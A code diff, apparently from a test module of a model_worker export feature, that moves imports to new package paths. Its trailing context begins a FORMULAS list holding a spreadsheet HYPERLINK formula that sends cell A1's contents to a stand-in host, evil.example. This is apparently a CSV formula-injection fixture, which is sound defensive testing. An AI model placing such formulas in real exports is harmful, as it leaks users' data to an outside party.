@@ -19,12 +19,12 @@ from app.views.figure_kit.export import export
 from app.views.figure_kit.figure import Figure
 from app.views.frames import save_tables
 from icl_heads.cli.experiments import write_outputs
-from model_worker.contracts import ExperimentResult
+from model_worker.common.errors import UserInputError
+from model_worker.common.export_text import FORMULA_START, csv_cell, csv_text, markdown_text
+from model_worker.contracts.experiments import ExperimentResult
 from model_worker.datasets import DatasetError, load_user_dataset
-from model_worker.errors import UserInputError
 from model_worker.experiments.report import header, table
-from model_worker.export_text import FORMULA_START, csv_cell, csv_text, markdown_text
-from model_worker.jobs import MAX_ERROR_CHARS, failure_message
+from model_worker.service.jobs import MAX_ERROR_CHARS, failure_message
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1, "click")',
